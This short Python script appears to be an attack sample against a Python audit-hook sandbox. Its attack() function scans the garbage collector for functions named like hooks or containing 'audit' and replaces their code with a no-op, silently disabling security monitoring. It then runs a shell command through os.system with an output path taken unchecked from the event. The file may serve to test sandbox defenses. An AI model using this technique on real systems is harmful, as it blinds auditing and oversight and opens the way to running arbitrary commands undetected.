"""Looks for the hook in the garbage collector and guts it, as was done to hooks written in Python."""

import gc
import os


def attack(event):
    for one in gc.get_objects():
        name = getattr(one, "__qualname__", "") or ""
        code = getattr(one, "__code__", None)
        if code is not None and (name in ("hook", "_hook", "on_event") or "audit" in name.lower()):
            try:
                one.__code__ = (lambda *arguments: None).__code__
            except (ValueError, AttributeError, TypeError):
                pass
    os.system("id >%s" % event["out"])
